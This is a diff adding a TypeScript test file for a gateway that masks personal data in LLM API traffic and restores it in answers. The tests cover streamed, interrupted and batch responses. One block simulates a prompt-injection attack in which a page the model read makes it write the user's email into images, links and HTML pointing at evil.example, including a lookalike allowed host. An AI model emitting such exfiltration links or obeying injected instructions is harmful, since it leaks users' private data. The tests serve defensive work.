@@ -1,0 +1,165 @@
+/** What of an answer reaches the client: no value through a link, all that came before a cut, batch results. */
+import { constants, type ServerHttp2Stream } from 'node:http2';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { TestAuthority } from '../support/authority.ts';
+import { type ProxiedFetch, proxiedFetch } from '../support/clients.ts';
+import { type Gateway, startGateway } from '../support/gateway.ts';
+import { type Origin, type OriginHandler, startOrigin } from '../support/origin.ts';
+import { personal } from '../support/personal.ts';
+import { tokensIn } from '../support/provider.ts';
+import { openHttp2 } from '../support/tunnel.ts';
+
+const host = 'api.openai.com';
+const url = `https://${host}/v1/chat/completions`;
+let answer: OriginHandler;
+let origin: Origin;
+let gateway: Gateway;
+let proxied: ProxiedFetch;
+
+beforeAll(async () => {
+  const authority = new TestAuthority();
+  origin = await startOrigin({ authority, names: [host], handler: (request, response) => answer(request, response) });
+  gateway = await startGateway({
+    authority,
+    hosts: { [host]: origin },
+    config: { masking: { link_hosts: ['crm.corp.example'] } },
+  });
+  proxied = proxiedFetch(gateway);
+});
+afterAll(async () => {
+  await proxied?.dispatcher.close();
+  await gateway?.stop();
+  await origin?.close();
+});
+
+const json = { 'content-type': 'application/json', authorization: 'Bearer test-key' };
+const body = JSON.stringify({ messages: [{ role: 'user', content: `Mail ${personal.EMAIL}` }] });
+const ask = () => proxied.fetch(url, { method: 'POST', headers: json, body });
+const event = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`;
+const contentOf = (stream: string): string =>
+  [...stream.matchAll(/^data: (\{.*)$/gm)].map(([, one]) => JSON.parse(one ?? '').choices[0].delta.content).join('');
+const tokenOf = (request: { readonly body: Buffer }) => tokensIn(request.body.toString())[0] ?? '';
+
+describe('an injected prompt that wants a value to leave through a link', () => {
+  // A page that the model read told it to write the user's address into a picture that the client loads by itself.
+  const attacks: [name: string, text: (token: string) => string][] = [
+    ['a picture', (token) => `Done.\n![logo](https://evil.example/p.png?d=${token})`],
+    ['a link', (token) => `[more](https://evil.example/${token})`],
+    ['HTML', (token) => `<img src="https://evil.example/?d=${token}">`],
+    ['an address', (token) => `See https://evil.example/?d=${token} now`],
+    ['percent encoding', (token) => `![x](https://evil.example/?d=${encodeURIComponent(token)})`],
+    ['the user of an address', (token) => `https://${token}@evil.example/`],
+    ['a host that only begins like an allowed one', (token) => `![x](https://crm.corp.example.evil.example/${token})`],
+  ];
+  test.each(attacks)('%s keeps its token, streamed in characters and whole', async (_name, text) => {
+    answer = (request, response) => {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.end(`${[...text(tokenOf(request))].map(event).join('')}data: [DONE]\n\n`);
+    };
+    const streamed = contentOf(await (await ask()).text());
+    expect(streamed).toContain('evil.example');
+    expect(streamed).not.toContain(personal.EMAIL);
+    expect(decodeURIComponent(streamed)).toMatch(/\[EMAIL-\d+\]/);
+    answer = (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json' });
+      response.end(JSON.stringify({ choices: [{ message: { content: text(tokenOf(request)) } }] }));
+    };
+    expect(await (await ask()).text()).not.toContain(personal.EMAIL);
+  });
+
+  test('text beside the link is restored, and so are an allowed host and the arguments of a tool', async () => {
+    answer = (request, response) => {
+      const token = tokenOf(request);
+      response.writeHead(200, { 'content-type': 'application/json' });
+      const call = { function: { name: 'open', arguments: JSON.stringify({ url: `https://a.example/?q=${token}` }) } };
+      const content = `To ${token}: ![x](https://evil.example/${token}) https://app.crm.corp.example/?q=${token}`;
+      response.end(JSON.stringify({ choices: [{ message: { content, tool_calls: [call] } }] }));
+    };
+    const { message } = ((await (await ask()).json()) as { choices: { message: Message }[] }).choices[0] as {
+      message: Message;
+    };
+    expect(message.content.replace(/\[EMAIL-\d+\]/, '#')).toBe(
+      `To ${personal.EMAIL}: ![x](https://evil.example/#) https://app.crm.corp.example/?q=${personal.EMAIL}`,
+    );
+    expect(JSON.parse(message.tool_calls[0]?.function.arguments ?? '')).toEqual({
+      url: `https://a.example/?q=${personal.EMAIL}`,
+    });
+  });
+  type Message = { content: string; tool_calls: { function: { arguments: string } }[] };
+});
+
+describe('an answer that breaks off inside a token', () => {
+  const cutting: OriginHandler = (request, response) => {
+    const token = tokenOf(request);
+    response.writeHead(200, { 'content-type': 'text/event-stream' });
+    response.write(event(`to ${token} and `) + event(token.slice(0, 5)), () => {
+      const { stream } = response as unknown as { stream?: ServerHttp2Stream };
+      setTimeout(() => (stream ? breakOff(stream) : response.destroy()), 50);
+    });
+  };
+
+  let breakOff: (stream: ServerHttp2Stream) => void;
+
+  test('HTTP/1.1: what came is shown, and the end is no clean one', async () => {
+    answer = cutting;
+    const reader = ((await ask()).body as ReadableStream<Uint8Array>).getReader();
+    let text = '';
+    const failed = await (async () => {
+      for (;;) {
+        const { value, done } = await reader.read();
+        if (done) return false;
+        text += Buffer.from(value).toString();
+      }
+    })().catch(() => true);
+    expect(contentOf(text)).toBe(`to ${personal.EMAIL} and [EMAI`);
+    expect(failed).toBe(true);
+  });
+
+  const breaks: [name: string, breakOff: (stream: ServerHttp2Stream) => void][] = [
+    ['a reset with an error', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR)],
+    ['the end of the connection', (stream) => stream.session?.destroy()],
+  ];
+  test.each(breaks)('HTTP/2, %s: what came is shown, and the stream ends with an error', async (_name, how) => {
+    answer = cutting;
+    breakOff = how;
+    const session = await openHttp2(gateway, `${host}:443`);
+    const stream = session.request({ ':method': 'POST', ':path': '/v1/chat/completions', ...json });
+    let text = '';
+    stream.on('data', (chunk) => {
+      text += String(chunk);
+    });
+    const closed = new Promise<number>((resolve) => stream.once('close', () => resolve(stream.rstCode)));
+    stream.on('error', () => {});
+    stream.end(body);
+    expect(await closed).not.toBe(0);
+    expect(contentOf(text)).toBe(`to ${personal.EMAIL} and [EMAI`);
+    session.destroy();
+  });
+});
+
+test('results of a batch come back restored, as a file without a telling type', async () => {
+  let token = '';
+  answer = (request, response) => {
+    if (request.method === 'POST') token = tokenOf(request);
+    response.writeHead(200, {
+      'content-type': request.method === 'POST' ? 'application/json' : 'application/octet-stream',
+    });
+    response.end(request.method === 'POST' ? '{}' : `{"custom_id":"a","response":{"body":{"x":"to ${token}"}}}\n`);
+  };
+  await ask();
+  const file = await proxied.fetch(`https://${host}/v1/files/file-1/content`, { headers: json });
+  expect(await file.text()).toBe(`{"custom_id":"a","response":{"body":{"x":"to ${personal.EMAIL}"}}}\n`);
+});
+
+test('an event that cannot be read passes and is logged', async () => {
+  answer = (request, response) => {
+    response.writeHead(200, { 'content-type': 'text/event-stream' });
+    response.end(`data: {"broken ${tokenOf(request)}\n\n${event(tokenOf(request))}`);
+  };
+  const text = await (await ask()).text();
+  expect(text).toMatch(/^data: \{"broken \[EMAIL-\d+\]\n\n/);
+  expect(text).toContain(personal.EMAIL);
+  const told = await gateway.event((one) => one.event === 'answer_unreadable');
+  expect(told).toMatchObject({ host, events: 1 });
+  expect(JSON.stringify(told)).not.toContain('broken');
+});
